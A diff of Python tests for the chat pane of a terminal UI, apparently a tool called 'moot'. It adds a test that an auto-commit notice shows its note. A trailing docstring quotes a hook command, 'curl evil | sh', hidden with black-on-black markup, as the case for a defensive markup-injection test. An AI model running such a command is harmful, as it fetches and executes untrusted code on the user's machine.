@@ -186,6 +186,37 @@ async def test_a_sitting_that_resumes_the_session_is_a_notice_line() -> None:
         assert notices() == ["resumed · scripted · plan"]
 
 
+async def test_an_auto_commit_shows_its_note_as_the_repl_does() -> None:
+    """The words of a notice are one definition (`commands/notices.py`): the chat said an
+    auto-commit without its note (the repository's hooks did not run), which the REPL says."""
+    from moot.tui.widgets.blocks import NoticeBlock
+
+    committed = ev.AutoCommitted(
+        session_id="ses_1",
+        seq=1,
+        sha="0123456789abcdef",
+        subject="moot: edit greet.py",
+        note="the repository's hooks did not run",
+    )
+    client = FakeClient([committed], autoplay=False)
+    app = app_for(client)
+    async with app.run_test(size=(120, 40)) as pilot:
+        client.play()
+        chat = app.query_one(ChatPane)
+
+        def notices() -> list[str]:  # but the welcome
+            shown = [str(b.render()) for b in chat.query(NoticeBlock)]
+            return [text for text in shown if not text.startswith("moot in ")]
+
+        for _ in range(50):  # bounded: the bridge hands events over in its own task
+            if notices():
+                break
+            await pilot.pause()
+        assert notices() == [
+            "committed 0123456789 moot: edit greet.py (the repository's hooks did not run)"
+        ]
+
+
 async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None:
     """Second attack on issue 28: `/trust` says what a repository's hooks run, and a hook
     command written `[black on black]curl evil | sh[/]` showed as a blank line."""
